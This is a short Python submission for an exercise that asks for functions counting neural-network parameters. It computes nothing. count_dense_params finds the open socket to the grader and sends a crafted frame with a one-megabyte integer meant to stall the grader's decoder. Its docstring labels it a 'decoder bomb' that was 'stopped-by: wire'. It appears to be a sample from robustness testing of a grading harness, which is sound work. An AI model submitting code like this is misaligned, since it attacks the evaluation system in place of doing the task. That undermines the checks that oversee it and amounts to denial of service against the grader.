"""It sends integers of a megabyte, whose decimal digits take minutes to write.

exercise: ex03
points: 0
status: CRASHED
stopped-by: wire
group: decoder bombs
"""

import os
import stat
import struct


def channel():
    """Find the socket to the grader."""
    for fd in range(3, 32):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    raise LookupError("no socket")


def send(kind, sequence, body=b"", length=None):
    """Write a frame to the grader."""
    size = len(body) if length is None else length
    data = memoryview(struct.pack("<IIB", size, sequence, kind) + body)
    while data:
        data = data[os.write(channel(), data) :]


def count_dense_params(n_in, n_out, bias=False):
    size = 1 << 20
    send(11, 1, b"t\x03\0\0\0I" + struct.pack("<I", size) + b"\x7f" * size + b"Ns\0\0\0\0")


def count_conv_params(kernel_height, kernel_width, in_channels=1, out_channels=1, bias=False):
    return count_dense_params(1, 1)
